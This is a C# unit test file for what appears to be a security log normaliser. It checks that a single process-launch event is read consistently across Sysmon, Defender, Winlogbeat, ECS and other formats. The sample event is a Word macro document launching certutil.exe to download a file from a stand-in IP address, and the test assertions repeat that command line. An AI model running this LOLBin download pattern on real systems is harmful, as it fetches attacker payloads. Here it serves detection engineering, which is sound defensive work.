using Changeling.Events;

namespace Changeling.Core.Tests.Events;

/// <summary>The same launch gives the same process event, whoever sends it, apart from what the sender does not know.</summary>
public class GoldenLaunchTests
{
    private const string SysmonIdentity = "sysmon-1|ws-0417.corp.example|{8d3f21b6-5c43-690a-9b01-000000002f00}";

    public static TheoryData<string> Senders => [.. GoldenLaunch.Messages.Keys];

    [Theory]
    [MemberData(nameof(Senders))]
    public void Every_sender_says_the_same_of_the_launch(string sender)
    {
        var read = Reading.Event(GoldenLaunch.Messages[sender]);

        Assert.Equal(new DateTime(2026, 11, 3, 9, 14, 27, 384), read.Time.UtcDateTime, TimeSpan.FromMilliseconds(0.9));
        Assert.Equal("ws-0417.corp.example", read.Host.Name);
        Assert.Equal("mara.lind", read.User?.Name);
        Assert.Equal("corp", read.User?.Domain, ignoreCase: true);
        Assert.Equal("certutil.exe", read.Child.Name);
        Assert.Equal(@"C:\Windows\System32\certutil.exe", read.Child.Path);
        Assert.Equal(@"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt", read.Child.CommandLine);
        Assert.Equal(6284u, read.Child.Pid);
        Assert.Equal(IntegrityLevel.Medium, read.Child.Integrity);
        Assert.Equal("winword.exe", read.Parent?.Name);
        Assert.Equal(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", read.Parent?.Path, ignoreCase: true);
        Assert.Equal(9120u, read.Parent?.Pid);
        Assert.Equal(EventNotes.None, read.Notes);
        Assert.Equal(sender.Split(' ')[0], read.Format);
    }

    [Theory]
    [MemberData(nameof(Senders))]
    public void What_a_sender_knows_beyond_that_agrees_too(string sender)
    {
        var read = Reading.Event(GoldenLaunch.Messages[sender]);

        Agrees(GoldenLaunch.Sid, read.User?.Sid);
        Agrees("CertUtil.exe", read.Child.OriginalFileName);
        Agrees("1f2306a3b3a5e04d7bd914991986a5d8c23ef135", read.Child.Hashes?.Sha1);
        Agrees("c7544986f4347555684b52fef40de584", read.Child.Hashes?.Md5);
        Agrees(TokenElevation.Limited, read.Child.Elevation);
        Agrees(
            """
            "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\mara.lind\Downloads\offer.docm"
            """,
            read.Parent?.CommandLine);

        static void Agrees(object expected, object? actual) => Assert.True(actual is null || expected.Equals(actual), $"{expected} != {actual}");
    }

    [Theory]
    [InlineData("defender-xdr", "process.signature")]
    [InlineData("defender-table", "process.signature")]
    [InlineData("flat-windows (SecurityEvent)", "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid")]
    [InlineData("winlogbeat-6", "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid")]
    [InlineData("winevent-json", "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid")]
    [InlineData("flat-windows (NXLog)", "user.sid process.signature process.elevation")]
    [InlineData("la-windowsevent", "user.sid process.signature process.elevation")]
    [InlineData("winlogbeat", "user.sid process.signature process.elevation")]
    [InlineData("ecs", "")]
    public void A_sender_lacks_what_its_format_cannot_hold_and_nothing_else(string sender, string missing) =>
        Assert.Equal(missing, string.Join(' ', Reading.Event(GoldenLaunch.Messages[sender]).Missing));

    [Theory]
    [InlineData("winlogbeat", SysmonIdentity)]
    [InlineData("la-windowsevent", SysmonIdentity)]
    [InlineData("flat-windows (NXLog)", SysmonIdentity)]
    [InlineData("flat-windows (SecurityEvent)", "security-4688|ws-0417.corp.example|security|9914402|2026-11-03t09:14:27.3840000z")]
    [InlineData("winevent-json", "security-4688|ws-0417.corp.example|security|9914402|2026-11-03t09:14:27.384102z")]
    [InlineData("winlogbeat-6", "security-4688|ws-0417.corp.example|security|9914402|2026-11-03t09:14:27.384z")]
    [InlineData("defender-xdr", "defender|4be1c07a92d3f5688e0a1b7c3d9f24506a7b8c1d|48213|2026-11-03t09:14:27.3912206z")]
    [InlineData("defender-table", "defender|4be1c07a92d3f5688e0a1b7c3d9f24506a7b8c1d|48213|2026-11-03t09:14:27.3912206z")]
    [InlineData("ecs", "ecs|nqtg0bx6sw8hkq1a++++1azk")]
    public void The_source_identity_is_the_event_s_own_and_the_same_for_every_carrier_of_a_sysmon_event(string sender, string identity) =>
        Assert.Equal(identity, Reading.Event(GoldenLaunch.Messages[sender]).SourceIdentity);

    [Fact]
    public void Event_data_may_be_a_text_that_holds_the_object()
    {
        var asText = Reading.Event(GoldenLaunch.WithEventDataAsText);

        Assert.Equal(Reading.Event(GoldenLaunch.Messages["la-windowsevent"]), asText);
    }

    [Fact]
    public void Only_elastic_says_who_signed_the_new_process()
    {
        var read = Reading.Event(GoldenLaunch.Messages["ecs"]);

        Assert.Equal(new CodeSignature(SignatureStatus.Valid, "Microsoft Windows"), read.Child.Signature);
    }
}
